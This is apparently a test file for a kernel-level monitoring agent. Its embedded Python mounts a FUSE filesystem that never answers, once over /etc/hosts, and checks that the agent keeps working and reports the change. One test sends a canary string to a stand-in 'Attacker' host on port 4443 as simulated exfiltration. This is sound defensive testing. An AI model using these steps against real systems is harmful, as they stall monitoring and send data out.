namespace Sallyport.Kernel.Tests;

/// <summary>A file system of the job's own that never answers (fuse(4)): whoever looks at a file of it waits, the agent too.</summary>
public sealed class SilentFilesTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    /// <summary>
    /// $1 is where it is mounted, with whose mode. It stays for as long as the process whose number is printed; the rest of the
    /// program has 'where' and may say 'attempt', which gives the numbers of processes that try something there.
    /// </summary>
    private const string Mounted = """
        import ctypes, os, signal, socket, sys, time
        where, mode = sys.argv[1], sys.argv[2]
        held = os.open('/dev/fuse', os.O_RDWR)
        options = f'fd={held},rootmode={mode},user_id=0,group_id=0'.encode()
        if ctypes.CDLL(None, use_errno=True).mount(b'silent', where.encode(), b'fuse', 0, options):
            print('mount:', os.strerror(ctypes.get_errno()), file=sys.stderr)
            sys.exit(3)
        holder = os.fork()
        if not holder:
            os.setsid()
            for output in 1, 2:
                os.dup2(os.open('/dev/null', os.O_WRONLY), output)
            time.sleep(300)
            os._exit(0)
        open(sys.argv[3], 'w').write(str(holder))
        def attempt(what):
            child = os.fork()
            if not child:
                what()
                os._exit(0)
            return child
        def end(children):
            time.sleep(0.5)
            for child in children:
                os.kill(child, signal.SIGKILL) # all of them first: they wait for each other
            for child in children:
                print('waited' if os.waitpid(child, 0)[1] == signal.SIGKILL else 'answered')

        """;

    private static readonly TimeSpan s_soon = TimeSpan.FromSeconds(60);

    [Theory]
    [EveryMode]
    public async Task Sockets_that_the_job_names_in_one_do_not_hold_the_agent(LabMode mode)
    {
        const int Many = 6;
        Directory.CreateDirectory(Path.Combine(Lab.WorkFolder, Canary, "silent"));

        LabRun run = await RunAsync(mode, $"/run/lab/work/{Canary}/silent", "40000", $"""
            end([attempt(lambda: socket.socket(socket.AF_UNIX).connect(where + f'/{"{number}"}')) for number in range({Many})])
            try:
                socket.create_connection(('{Attacker}', 4443), timeout=30).sendall(b'{Canary}')
            except OSError as e:
                print(e.strerror)
            """);

        // Whoever looks there does wait.
        Assert.Equal(Many, run.Process.Output.Split('\n').Count(line => line == "waited"));
        Assert.Equal(mode != LabMode.Block, run.Traffic.Contains(Canary));
        if (mode != LabMode.Off)
        {
            Assert.Contains(run.Report.Connections, row => row.Address == Attacker && row.Verdict == (mode == LabMode.Block ? "refused" : "observed"));
        }
    }

    [Theory]
    [EveryMode]
    public async Task Over_the_file_of_names_it_does_not_hold_the_agent_and_is_told(LabMode mode)
    {
        LabRun run = await RunAsync(
            mode, "/etc/hosts", "100644", "end([attempt(lambda: open(where).read())])");

        Assert.Contains("waited", run.Process.Output, StringComparison.Ordinal);
        if (mode != LabMode.Off)
        {
            AssertFound(run, "hosts-changed", "reported", null);
        }
    }

    private async Task<LabRun> RunAsync(LabMode mode, string where, string rootMode, string program)
    {
        var holder = Path.Combine(Lab.WorkFolder, Canary + ".holder");
        try
        {
            LabRun run = await Lab.RunAsync(mode, Command(
                "/usr/bin/python3", "-c", Mounted + program, where, rootMode, $"/run/lab/work/{Canary}.holder"));
            Assert.SkipWhen(run.Process.ExitCode == 3, $"this kernel lacks it: {run.Process.Errors.Trim()}");
            Assert.True(run.Process.ExitCode == 0 && run.Process.Elapsed < s_soon, run.ToString());
            return run;
        }
        finally
        {
            // What is mounted answers with an error from here on, and can go.
            await Lab.OutsideAsync("sh", "-c", "kill -9 $(cat $0); umount --lazy $1", $"/run/lab/work/{Canary}.holder", where);
            File.Delete(holder);
        }
    }
}
